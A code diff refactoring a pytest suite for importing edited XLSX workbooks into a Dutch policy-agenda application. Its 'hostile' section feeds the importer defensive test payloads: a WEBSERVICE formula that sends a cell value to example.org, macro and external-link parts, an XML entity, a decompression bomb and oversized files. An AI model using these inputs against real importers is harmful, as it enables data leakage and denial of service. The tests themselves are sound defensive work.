@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import io
+import shutil
 import subprocess
 import tracemalloc
 import zipfile
 from collections.abc import Callable
-from contextlib import suppress
+from contextlib import ExitStack, suppress
+from dataclasses import replace
 from functools import lru_cache
 from pathlib import Path
 from typing import Any
@@ -23,7 +25,7 @@ from lib.documents.tables.workbook import contents_at, workbook
 from lib.dutch import stamp
 from lib.feeds.workbook import taking
 from lib.feeds.workbook.columns import NUMBER, WHAT, columns_of, kinds, sheet_name
-from lib.feeds.workbook.reading import read
+from lib.feeds.workbook.reading import Book, Line, read
 from lib.feeds.workbook.storing import MINE, THEIRS, Choices
 from lib.feeds.workbook.taking import CHANGED, CLASHING, NEW, THERE, WRONG, Judged
 from lib.model.kinds import Invalid
@@ -32,7 +34,7 @@ from lib.store import agenda, coalitions, history, records
 from lib.store.file.connection import reading, writing
 from tests.unit import desk
 from tests.unit.desk import ANNA, BRAM
-from tests.unit.store.test_history import Agenda
+from tests.unit.store.test_history import Editors
 
 Edit = Callable[[Workbook], None]
 
@@ -43,16 +45,31 @@ def export(path: Path, action_id: str = "") -> bytes:
         return workbook(contents_at(db, history.newest(db), "echt", [("Agenda", "Test")], action_id))
 
 
+@pytest.fixture(scope="module")
+def sent(template: Path, tmp_path_factory: pytest.TempPathFactory) -> bytes:
+    """The workbook of an agenda that was just filled, as the one at `path` is."""
+    return export(Path(shutil.copy(template, tmp_path_factory.mktemp("werkboek"))))
+
+
+@lru_cache(maxsize=1)
+def opened(content: bytes) -> Workbook:
+    """The workbook as a program has it; to open one takes long."""
+    return load_workbook(io.BytesIO(content))
+
+
 def edited(content: bytes, *edits: tuple[str, int, str, Any]) -> bytes:
     """The workbook after somebody typed in it: sheet, row, title of the column, and what was typed."""
-    book = load_workbook(io.BytesIO(content))
-    for name, row, title, value in edits:
-        titles = [cell.value for cell in book[name][1]]
-        cell = book[name].cell(row, titles.index(title) + 1)
-        cell.value = value
-        if isinstance(value, str):
-            cell.data_type = "s"
-    return saved(book)
+    book = opened(content)
+    with ExitStack() as typed:
+        for name, row, title, value in edits:
+            titles = [cell.value for cell in book[name][1]]
+            cell = book[name].cell(row, titles.index(title) + 1)
+            for attribute, before in (("data_type", cell.data_type), ("value", cell.value)):
+                typed.callback(setattr, cell, attribute, before)
+            cell.value = value
+            if isinstance(value, str):
+                cell.data_type = "s"
+        return saved(book)
 
 
 def saved(book: Workbook) -> bytes:
@@ -62,34 +79,29 @@ def saved(book: Workbook) -> bytes:
 
 
 def judged(
-    path: Path, content: bytes, person: Person = ANNA, reason: str = "", choices: Choices | None = None
+    path: Path, content: bytes | Book, person: Person = ANNA, reason: str = "", choices: Choices | None = None
 ) -> list[Judged]:
     """What taking it in would do; nothing stays of finding out."""
     before = desk.state(path)
-    found = taking.rehearse(path, person, read(content), reason, choices or {})
+    found = taking.rehearse(path, person, read_once(content), reason, choices or {})
     assert desk.state(path) == before
     return found
 
 
 def take(
-    path: Path, content: bytes, person: Person = ANNA, reason: str = "", choices: Choices | None = None
+    path: Path, content: bytes | Book, person: Person = ANNA, reason: str = "", choices: Choices | None = None
 ) -> None:
     with writing(path, person, reason) as db:
-        taking.take(db, person, read(content), choices or {})
+        taking.take(db, person, read_once(content), choices or {})
+
+
+def read_once(content: bytes | Book) -> Book:
+    return content if isinstance(content, Book) else read(content)
 
 
 def row_of(content: bytes, name: str, row_id: Any) -> int:
     """The row of a sheet that a record stands in."""
-    return first_cells(content, name).index(row_id) + 1
-
-
-@lru_cache(maxsize=1)
-def first_cells(content: bytes, name: str) -> list[Any]:
-    """What stands in the first column of a sheet; to open a workbook takes long."""
-    book = load_workbook(io.BytesIO(content), read_only=True)
-    found = [value for (value,) in book[name].iter_rows(max_col=1, values_only=True)]
-    book.close()
-    return found
+    return [cell.value for cell in opened(content)[name]["A"]].index(row_id) + 1
 
 
 def newest(path: Path) -> int:
@@ -120,8 +132,8 @@ def filled(path: Path) -> None:
     desk.save(path, {"note": "00123"})
 
 
-def test_every_kind_of_record_has_a_sheet_with_columns_of_its_declaration(path: Path) -> None:
-    book = load_workbook(io.BytesIO(export(path)))
+def test_every_kind_of_record_has_a_sheet_with_columns_of_its_declaration(sent: bytes) -> None:
+    book = load_workbook(io.BytesIO(sent))
     for record in kinds():
         titles = [cell.value for cell in book[sheet_name(record)][1]]
         assert titles == [NUMBER, WHAT, *(column.title for column in columns_of(record))], record.table
@@ -132,9 +144,8 @@ def test_every_kind_of_record_has_a_sheet_with_columns_of_its_declaration(path: 
     assert {(record.name, column.title) for record in kinds() for column in columns_of(record)} <= told
 
 
-def test_a_row_says_what_it_is_and_that_is_not_taken_in(path: Path) -> None:
-    content = export(path)
-    book = load_workbook(io.BytesIO(content))
+def test_a_row_says_what_it_is_and_that_is_not_taken_in(path: Path, sent: bytes) -> None:
+    book = load_workbook(io.BytesIO(sent))
     assert book["Afspraken van de coalitie"]["B2"].value.startswith("1 ")
     assert book["Verplichting"]["B2"].value
     book["Verplichting"]["B2"] = "Anders"
@@ -225,9 +236,8 @@ def cells_of(content: bytes) -> dict[tuple[str, str], Any]:
 # ------------------------------------------------------------------------------ changes
 
 
-def test_a_changed_cell_lands_through_the_rules_and_is_told_by_cell(path: Path) -> None:
-    content = export(path)
-    typed = edited(content, ("Actie", row_of(content, "Actie", "3"), "Stand van zaken", "Nieuw"))
+def test_a_changed_cell_lands_through_the_rules_and_is_told_by_cell(path: Path, sent: bytes) -> None:
+    typed = edited(sent, ("Actie", row_of(sent, "Actie", "3"), "Stand van zaken", "Nieuw"))
     (cell,) = judged(path, typed)
     assert (cell.sheet, cell.column, cell.old, cell.new, cell.state) == (
         "Actie", "Stand van zaken", "", "Nieuw", CHANGED,
@@ -237,10 +247,9 @@ def test_a_changed_cell_lands_through_the_rules_and_is_told_by_cell(path: Path) 
     assert [cell.state for cell in judged(path, typed)] == [THERE]
 
 
-def test_a_new_party_can_sit_on_a_new_chair_of_the_same_workbook(path: Path) -> None:
-    content = export(path)
+def test_a_new_party_can_sit_on_a_new_chair_of_the_same_workbook(path: Path, sent: bytes) -> None:
     typed = edited(
-        content,
+        sent,
         ("Partij", 2, "Naam van de organisatie", "Lab Nieuw"),
         ("Partij", 2, "Kant", "Onderwijs"),
         ("Stoel", 2, "Actie", "3"),
@@ -256,10 +265,9 @@ def test_a_new_party_can_sit_on_a_new_chair_of_the_same_workbook(path: Path) -> 
     assert {cell.state for cell in judged(path, typed)} == {THERE}, "a second time adds no second one"
 
 
-def test_one_wrong_cell_keeps_all_of_it_out(path: Path) -> None:
-    content = export(path)
+def test_one_wrong_cell_keeps_all_of_it_out(path: Path, sent: bytes) -> None:
     typed = edited(
-        content,
+        sent,
         ("Actie", 2, "Stand van zaken", "Wel goed"),
         ("Mijlpaal", 2, "Actie", "3"),
         ("Mijlpaal", 2, "Wat", "Opening"),
@@ -275,13 +283,12 @@ def test_one_wrong_cell_keeps_all_of_it_out(path: Path) -> None:
     assert newest(path) == before
 
 
-def test_what_gedeputeerde_staten_decide_is_refused_here_too(path: Path) -> None:
-    content = export(path)
-    row = row_of(content, "Actie", "3")
-    (cell,) = judged(path, edited(content, ("Actie", row, "Prioriteit", "laag")), reason="Omdat")
+def test_what_gedeputeerde_staten_decide_is_refused_here_too(path: Path, sent: bytes) -> None:
+    row = row_of(sent, "Actie", "3")
+    (cell,) = judged(path, edited(sent, ("Actie", row, "Prioriteit", "laag")), reason="Omdat")
     assert cell.state == WRONG
     assert "besluit van Gedeputeerde Staten" in cell.sentence
-    (fase,) = judged(path, edited(content, ("Actie", row, "Fase", "In uitvoering")))
+    (fase,) = judged(path, edited(sent, ("Actie", row, "Fase", "In uitvoering")))
     assert fase.sentence.startswith("Deze kolom is alleen om te lezen")
 
 
@@ -303,21 +310,18 @@ def test_a_reason_is_asked_once_for_all(path: Path) -> None:
         assert db.execute("SELECT count(*) FROM party WHERE withdrawn_on IS NOT NULL").fetchone() == (2,)
 
 
-def test_rights_hold_for_a_workbook(path: Path) -> None:
-    content = export(path)
-    typed = edited(content, ("Instellingen", 2, "Bewijs oud na (dagen)", 365))
+def test_rights_hold_for_a_workbook(path: Path, sent: bytes) -> None:
+    typed = edited(sent, ("Instellingen", 2, "Bewijs oud na (dagen)", 365))
     editor = Person("Eva", rights=frozenset({EDIT}))
     (cell,) = judged(path, typed, editor)
     assert cell.state == WRONG
     assert "Er is niets opgeslagen" in cell.sentence
     own = Person("Aan", rights=frozenset({EDIT}), actions=("4",))
-    (cell,) = judged(
-        path, edited(content, ("Actie", row_of(content, "Actie", "3"), "Stand van zaken", "x")), own
-    )
+    (cell,) = judged(path, edited(sent, ("Actie", row_of(sent, "Actie", "3"), "Stand van zaken", "x")), own)
     assert cell.state == WRONG
 
 
-def test_a_number_of_nothing_is_refused_in_words(path: Path) -> None:
+def test_a_number_of_nothing_is_refused_in_words(path: Path, sent: bytes) -> None:
     typed = [
         ("Soort", "motie"),
         ("Nummer (id)", "M12"),
@@ -327,27 +331,25 @@ def test_a_number_of_nothing_is_refused_in_words(path: Path) -> None:
         ("Beantwoord in", 999),
     ]
     cells = [("Motie of toezegging", 2, title, value) for title, value in typed]
-    (wrong,) = [cell for cell in judged(path, edited(export(path), *cells)) if cell.state == WRONG]
+    (wrong,) = [cell for cell in judged(path, edited(sent, *cells)) if cell.state == WRONG]
     assert "een rij die er niet is" in wrong.sentence
 
 
 # ------------------------------------------------------------------------------ two people
 
 
-def test_two_people_in_other_cells_both_land(path: Path) -> None:
-    content = export(path)
-    row = row_of(content, "Actie", "3")
-    take(path, edited(content, ("Actie", row, "Stand van zaken", "Van Anna")))
+def test_two_people_in_other_cells_both_land(path: Path, sent: bytes) -> None:
+    row = row_of(sent, "Actie", "3")
+    take(path, edited(sent, ("Actie", row, "Stand van zaken", "Van Anna")))
     desk.party(path, "Roc Later")
-    take(path, edited(content, ("Actie", row_of(content, "Actie", "4"), "Stand van zaken", "Van Bram")), BRAM)
+    take(path, edited(sent, ("Actie", row_of(sent, "Actie", "4"), "Stand van zaken", "Van Bram")), BRAM)
     assert (desk.action(path)["note"], desk.action(path, "4")["note"]) == ("Van Anna", "Van Bram")
 
 
-def test_two_people_in_one_cell_see_both_values_and_choose(path: Path) -> None:
-    content = export(path)
-    row = row_of(content, "Actie", "3")
-    take(path, edited(content, ("Actie", row, "Stand van zaken", "Van Anna")))
-    second = edited(content, ("Actie", row, "Stand van zaken", "Van Bram"))
+def test_two_people_in_one_cell_see_both_values_and_choose(path: Path, sent: bytes) -> None:
+    row = row_of(sent, "Actie", "3")
+    take(path, edited(sent, ("Actie", row, "Stand van zaken", "Van Anna")))
+    second = edited(sent, ("Actie", row, "Stand van zaken", "Van Bram"))
     (cell,) = judged(path, second, BRAM)
     assert cell.state == CLASHING
     assert "Anna maakte er intussen “Van Anna” van" in cell.sentence
@@ -441,7 +443,7 @@ def test_export_and_import_is_the_identity_in_any_state(
     assert newest(path) == before
 
 
-class Exchanged(Agenda):
+class Exchanged(Editors):
     """The agenda that people work in at random, which goes out and in again at the end."""
 
     def teardown(self) -> None:
@@ -471,23 +473,33 @@ def test_of_two_who_take_in_one_workbook_nothing_is_lost_unseen(
     path: Path, first: dict[str, str], second: dict[str, str], choice: str
 ) -> None:
     """Where both typed something else a choice is asked; every other cell of both lands."""
-    before, content = {key: desk.action(path, key)["note"] for key in "3478"}, export(path)
-
-    def typed(notes: dict[str, str]) -> bytes:
-        rows = {key: row_of(content, "Actie", key) for key in notes}
-        return edited(
-            content, *(("Actie", rows[key], "Stand van zaken", note) for key, note in notes.items())
-        )
-
-    take(path, typed(first))
-    found = {cell.place: cell.state for cell in judged(path, typed(second), BRAM)}
+    before, book = {key: desk.action(path, key)["note"] for key in "3478"}, read(export(path))
+    take(path, with_notes(book, first))
+    theirs = with_notes(book, second)
+    found = {cell.place: cell.state for cell in judged(path, theirs, BRAM)}
     others = {key: note for key, note in first.items() if note != before[key]}
     both = {key for key in second if key in others and second[key] not in (others[key], before[key])}
     assert {place[1] for place, state in found.items() if place and state == CLASHING} == both
-    take(path, typed(second), BRAM, choices={("action", key, "note"): choice for key in both})
-    theirs = both if choice == THEIRS else set()
-    wanted = {key: note for key, note in second.items() if key not in theirs and note != before[key]}
+    take(path, theirs, BRAM, choices={("action", key, "note"): choice for key in both})
+    kept = both if choice == THEIRS else set()
+    wanted = {key: note for key, note in second.items() if key not in kept and note != before[key]}
     assert {key: desk.action(path, key)["note"] for key in "3478"} == before | others | wanted
+
+
+def with_notes(book: Book, notes: dict[str, str]) -> Book:
+    """The workbook as it would be read after somebody typed notes of actions."""
+
+    def typed(line: Line) -> Line:
+        own = {"note": notes[line.row_id]} if line.row_id in notes else {}
+        return replace(line, cells={**line.cells, **own})
+
+    return replace(
+        book,
+        sheets=[
+            replace(sheet, lines=[*map(typed, sheet.lines)]) if sheet.record.table == "action" else sheet
+            for sheet in book.sheets
+        ],
+    )
 
 
 # ------------------------------------------------------------------------------ hostile
@@ -506,49 +518,48 @@ def test_another_workbook_or_no_workbook_is_refused() -> None:
     refused(b"", "beschadigd of geen XLSX")
 
 
-def test_strange_sheets_columns_and_cells_are_refused(path: Path) -> None:
-    content = export(path)
-    book = load_workbook(io.BytesIO(content))
-    book.create_sheet("Extra")
+def test_strange_sheets_columns_and_cells_are_refused(sent: bytes) -> None:
+    book = load_workbook(io.BytesIO(sent))
+    extra = book.create_sheet("Extra")
     refused(saved(book), "Het blad “Extra” hoort niet")
-    book = load_workbook(io.BytesIO(content))
-    book["Partij"]["H1"] = "Geheim"
-    refused(saved(book), "hoort geen kolom “Geheim”")
-    book = load_workbook(io.BytesIO(content))
-    book["Partij"]["AA3"] = "los"
-    refused(saved(book), "Cel AA3 op het blad “Partij” staat onder geen kolomnaam")
-    book = load_workbook(io.BytesIO(content))
-    book["Partij"]["A1"] = None
-    refused(saved(book), "ontbreekt de kolom “Nr”")
-    book = load_workbook(io.BytesIO(content))
+    book.remove(extra)
+    sheet = book["Partij"]
+    for place, words, why in (
+        ("H1", "Geheim", "hoort geen kolom “Geheim”"),
+        ("AA3", "los", "Cel AA3 op het blad “Partij” staat onder geen kolomnaam"),
+        ("A1", None, "ontbreekt de kolom “Nr”"),
+    ):
+        before, sheet[place].value = sheet[place].value, words
+        refused(saved(book), why)
+        sheet[place].value = before
     book["Actie"]["A3"] = book["Actie"]["A2"].value
     refused(saved(book), "staat nummer .* in rij 2 én in rij 3")
 
 
-def test_an_earlier_export_with_former_words_is_refused_by_its_column_and_its_cell(path: Path) -> None:
+def test_an_earlier_export_with_former_words_is_refused_by_its_column_and_its_cell(
+    path: Path, sent: bytes
+) -> None:
     """A column that is called otherwise by now, and a choice that is: nothing lands, and it says what can."""
-    content = export(path)
-    book = load_workbook(io.BytesIO(content))
+    book = load_workbook(io.BytesIO(sent))
     title = next(cell for cell in book["Onderzoeksgroep"][1] if cell.value == "Eindigt op")
     title.value = "Houdt op op"
     refused(saved(book), "Op het blad “Onderzoeksgroep” hoort geen kolom “Houdt op op”")
-    typed = edited(content, ("Campus", 2, "Lectoraat of practoraat", "gecombineerd lectoraat-practoraat"))
+    typed = edited(sent, ("Campus", 2, "Lectoraat of practoraat", "gecombineerd lectoraat-practoraat"))
     (cell,) = judged(path, typed)
     assert cell.state == WRONG
     assert "lectoraat en practoraat" in cell.sentence
 
 
-def test_formulas_merged_cells_and_errors_are_refused_by_their_place(path: Path) -> None:
-    content = export(path)
-    book = load_workbook(io.BytesIO(content))
-    book["Partij"]["B2"] = '=WEBSERVICE("http://example.org/"&A1)'
-    refused(saved(book), "Cel B2 op het blad “Partij” bevat een formule")
-    book = load_workbook(io.BytesIO(content))
+def test_formulas_merged_cells_and_errors_are_refused_by_their_place(sent: bytes) -> None:
+    book = load_workbook(io.BytesIO(sent))
+    for words, why in (
+        ('=WEBSERVICE("http://example.org/"&A1)', "Cel B2 op het blad “Partij” bevat een formule"),
+        ("#REF!", "Cel B2 op het blad “Partij” bevat een fout"),
+    ):
+        book["Partij"]["B2"] = words
+        refused(saved(book), why)
     book["Partij"].merge_cells("B2:C3")
     refused(saved(book), "cellen samengevoegd")
-    book = load_workbook(io.BytesIO(content))
-    book["Partij"]["B2"] = "#REF!"
-    refused(saved(book), "Cel B2 op het blad “Partij” bevat een fout")
 
 
 def with_part(content: bytes, name: str, part: bytes) -> bytes:
@@ -559,23 +570,19 @@ def with_part(content: bytes, name: str, part: bytes) -> bytes:
     return file.getvalue()
 
 
-def test_macros_other_files_entities_and_bombs_are_refused(path: Path) -> None:
-    content = export(path)
-    refused(with_part(content, "xl/vbaProject.bin", b"macro"), "macro’s")
-    refused(
-        with_part(content, "xl/externalLinks/externalLink1.xml", b"<a/>"), "verwijst naar andere bestanden"
-    )
-    refused(with_part(content, "xl/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "beschadigd")
-    refused(with_part(content, "xl/big.xml", b" " * 45_000_000), "pakt uit tot meer dan 40 MB")
-    refused(content + bytes(20_000_000), "groter dan 20 MB")
+def test_macros_other_files_entities_and_bombs_are_refused(sent: bytes) -> None:
+    refused(with_part(sent, "xl/vbaProject.bin", b"macro"), "macro’s")
+    refused(with_part(sent, "xl/externalLinks/externalLink1.xml", b"<a/>"), "verwijst naar andere bestanden")
+    refused(with_part(sent, "xl/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "beschadigd")
+    refused(with_part(sent, "xl/big.xml", b" " * 45_000_000), "pakt uit tot meer dan 40 MB")
+    refused(sent + bytes(20_000_000), "groter dan 20 MB")
 
 
-def test_a_hundred_thousand_rows_are_refused_within_bounded_memory(path: Path) -> None:
+def test_a_hundred_thousand_rows_are_refused_within_bounded_memory(sent: bytes) -> None:
     row = b'<row r="%d"><c r="A%d"><v>1</v></c></row>'
     rows = b"".join(row % (number, number) for number in range(2, 100_002))
-    content = export(path)
     file = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
+    with zipfile.ZipFile(io.BytesIO(sent)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
         for part in old.infolist():
             text = old.read(part)
             if part.filename == "xl/worksheets/sheet3.xml":
